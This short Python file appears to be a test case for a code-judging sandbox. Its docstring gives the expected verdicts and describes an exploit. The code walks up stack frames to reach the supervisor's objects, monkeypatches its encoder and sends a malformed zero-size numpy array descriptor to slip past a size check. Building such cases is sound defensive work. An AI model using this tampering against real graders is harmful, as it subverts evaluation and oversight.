"""
verdict = ["PE", "CE"]
points_at_most = 0
wall_s = 15
exploits = "Describes its entry points by an array that numpy cannot make, in the one answer that no test looks at."
stops = "The product of the sizes is checked without the zeros, too."
"""

import sys

ours = sys._getframe()
while "child" not in ours.f_locals:  # up to where the supervisor imported it
    ours = ours.f_back
wire = ours.f_locals["child"].wire

plain = wire._Encoder.node
wire._Encoder.node = lambda self, value, depth: (
    self._adapted(value) if type(value) is wire.Array else plain(self, value, depth)
)

frame = sys._getframe()
while "server" not in frame.f_locals:
    frame = frame.f_back
server = frame.f_locals["server"]
server.pipe.send(
    *wire.encode({"value": wire.Array("numpy", "float64", (0, 1 << 39, 1 << 39), False, b"")}, server.adapt)
)
server.answer()
